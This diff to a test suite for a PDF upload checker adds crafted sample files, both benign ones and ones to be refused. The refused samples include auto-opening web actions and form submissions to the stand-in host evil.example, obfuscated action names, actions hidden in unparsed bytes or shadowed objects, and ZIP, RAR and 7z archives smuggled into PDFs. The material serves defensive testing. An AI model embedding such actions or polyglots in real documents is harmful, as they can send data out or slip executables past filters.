@@ -1,5 +1,6 @@
 import { deflateSync } from 'node:zlib'
 import { describe, expect, it } from 'vitest'
+import { zipOf } from '../../../test/workbook-samples.ts'
 import { onePage, packedObject, pageOfSize, writePdf } from './pdf-samples.ts'
 import { findPdfFault, type PdfFault } from './pdf-structure.ts'
 
@@ -12,6 +13,22 @@ const sound: Record<string, Buffer> = {
   'a link to a web page': onePage('', ['<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.mn)>>>>']),
   'a font that happens to be called JS': onePage('', ['<</Font<</JS<</Type/Font>>>>>>']),
   'a picture that unpacks to 40 MB': onePage('', [{ dict: '/Filter/FlateDecode', bytes: bomb(40) }]),
+  'a page and a zoom to begin with': onePage('/OpenAction[3 0 R/XYZ 0 842 1.5]'),
+  'a page to begin with, told as an action': onePage('/OpenAction 4 0 R', [
+    '<</S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/FirstPage>>>>',
+  ]),
+  'a page to begin with, by name': onePage('/OpenAction<</S/GoTo/D(start)>>'),
+  'a link to a web page beside a page to begin with': onePage('/OpenAction[3 0 R/Fit]', [
+    '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.mn)>>>>',
+  ]),
+  'a link to another file': onePage('', ['<</Type/Annot/Subtype/Link/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>']),
+  'a version before, which somebody saved over': Buffer.concat([
+    onePage('', ['<</Title(first)>>']),
+    Buffer.from('4 0 obj<</Title(second)>>endobj\ntrailer<</Size 5/Root 1 0 R>>\nstartxref\n9\n%%EOF\n'),
+  ]),
+  'words about archives': onePage('', [
+    { dict: '', bytes: Buffer.from('(PK\x05\x06 marks the end of a ZIP)', 'latin1') },
+  ]),
   'a line end after the end mark': Buffer.concat([onePage(), Buffer.from('\r\n\r\n')]),
 }
 
@@ -36,6 +53,60 @@ const faulty: Record<string, [Buffer, PdfFault]> = {
     'active_content',
   ],
   'an XFA form': [onePage('/AcroForm<</XFA 4 0 R>>', [{ dict: '', bytes: Buffer.from('<xdp/>') }]), 'active_content'],
+  'a form that is sent when it is opened': [
+    onePage('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'),
+    'active_content',
+  ],
+  'a form that is sent by a button': [
+    onePage('', ['<</Type/Annot/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(https://evil.example)>>>>']),
+    'active_content',
+  ],
+  'a form that is sent, under a disguised name': [onePage('', ['<</S/Submit#46orm/F(x)>>']), 'active_content'],
+  'a web page that opens by itself': [onePage('/OpenAction<</S/URI/URI(https://evil.example)>>'), 'active_content'],
+  'a web page that opens by itself, told elsewhere': [
+    onePage('/OpenAction 4 0 R', ['<</S 5 0 R/URI(https://evil.example)>>', '/URI']),
+    'active_content',
+  ],
+  'a web page that opens after a page of its own': [
+    onePage('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>>4 0 R]>>', [
+      '<</S/URI/URI(https://evil.example)>>',
+    ]),
+    'active_content',
+  ],
+  'a web page that opens by itself, packed in an object stream': [
+    onePage('/OpenAction 9 0 R', [packedObject('<</S/URI/URI(https://evil.example)>>')]),
+    'active_content',
+  ],
+  'a web page that opens by itself, in an earlier version of the object': [
+    onePage('/OpenAction 4 0 R', ['<</S/URI/URI(https://evil.example)>> endobj 4 0 obj <</S/GoTo/D[3 0 R/Fit]>>']),
+    'active_content',
+  ],
+  'a web page that opens by itself, in bytes where no parser looks': [
+    onePage('/OpenAction 4 0 R', [
+      '<</S/GoTo/D[3 0 R/Fit]>>',
+      { dict: '', bytes: Buffer.from('4 0 obj<</S/URI/URI(https://evil.example)>>endobj') },
+    ]),
+    'active_content',
+  ],
+  'an action to begin with that stands nowhere': [onePage('/OpenAction 99 0 R'), 'active_content'],
+  'a catalog with such an action, in bytes where no parser looks': [
+    onePage('', [{ dict: '', bytes: Buffer.from('1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(x)>>>>') }]),
+    'active_content',
+  ],
+  'another file that opens when a page is shown': [
+    onePage('', ['<</Type/Page/AA<</O<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>>>']),
+    'active_content',
+  ],
+  'a web page that opens when the file is left': [
+    onePage('/AA 4 0 R', ['<</WC 5 0 R>>', '<</S/URI/URI(x)>>']),
+    'active_content',
+  ],
+  'a web page that opens when the mouse passes over a field': [
+    onePage('', ['<</Type/Annot/Subtype/Widget/AA<</E<</S/URI/URI(https://evil.example)>>>>>>']),
+    'active_content',
+  ],
+  'data brought in by itself': [onePage('/OpenAction<</S/ImportData/F(data.fdf)>>'), 'active_content'],
+  'a sound to begin with': [onePage('/OpenAction<</S/Sound>>'), 'active_content'],
   'a picture that unpacks to 300 MB': [
     onePage('', [{ dict: '/Filter/FlateDecode', bytes: bomb(300) }]),
     'too_large_inside',
@@ -52,12 +123,32 @@ const faulty: Record<string, [Buffer, PdfFault]> = {
   'a catalog that leads nowhere': [writePdf(['<</Type/Catalog/Pages 9 0 R>>']), 'unreadable'],
 }
 
+/** The same file with a ZIP somewhere. */
+const archives: Record<string, () => Promise<Buffer>> = {
+  'a ZIP after the end': async () => Buffer.concat([onePage(), await zipOf({ a: 'x' })]),
+  'a ZIP after the end, and an end mark behind it': async () =>
+    Buffer.concat([onePage(), await zipOf({ 'setup.exe': 'x'.repeat(3000) }), Buffer.from('\nstartxref\n9\n%%EOF\n')]),
+  'a ZIP before the end mark, inside a stream': async () => onePage('', [{ dict: '', bytes: await zipOf({ a: 'x' }) }]),
+  'a RAR after the end': async () => Buffer.concat([onePage(), Buffer.from('Rar!\x1a\x07\x01\0', 'latin1')]),
+  'a 7z after the end': async () => Buffer.concat([onePage(), Buffer.from('7z\xbc\xaf\x27\x1c\0\x04', 'latin1')]),
+  'a cabinet after the end': async () => Buffer.concat([onePage(), Buffer.from('MSCF\0\0\0\0')]),
+  'a disk image': async () => {
+    const pdf = pageOfSize(60_000)
+    pdf.write('CD001', 0x8001)
+    return pdf
+  },
+}
+
 describe('the structure of an uploaded PDF', () => {
-  it.each(Object.entries(sound))('accepts %s', async (_, pdf) => {
+  it.each(Object.entries(archives))('[REQ-READFILE-08] refuses %s', async (_, make) => {
+    expect(await findPdfFault(await make())).toBe('archive')
+  })
+
+  it.each(Object.entries(sound))('[REQ-READFILE-09] accepts %s', async (_, pdf) => {
     expect(await findPdfFault(pdf)).toBeNull()
   })
 
-  it.each(Object.entries(faulty))('[REQ-FILE-13] refuses %s', async (_, [pdf, fault]) => {
+  it.each(Object.entries(faulty))('[REQ-FILE-13] [REQ-READFILE-07] refuses %s', async (_, [pdf, fault]) => {
     expect(await findPdfFault(pdf)).toBe(fault)
   })
 })
